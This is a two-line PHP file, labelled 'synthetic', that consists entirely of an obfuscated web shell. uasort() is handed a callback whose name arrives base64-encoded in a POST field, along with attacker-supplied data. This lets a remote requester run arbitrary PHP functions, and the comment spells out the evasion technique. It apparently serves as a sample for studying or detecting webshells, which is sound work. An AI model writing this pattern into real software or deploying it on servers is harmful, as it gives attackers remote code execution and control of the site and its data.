<?php
// synthetic: the callback name is base64 in the request, the argument too
$list = array('x', $_POST['data']);
uasort($list, base64_decode($_POST['k']));
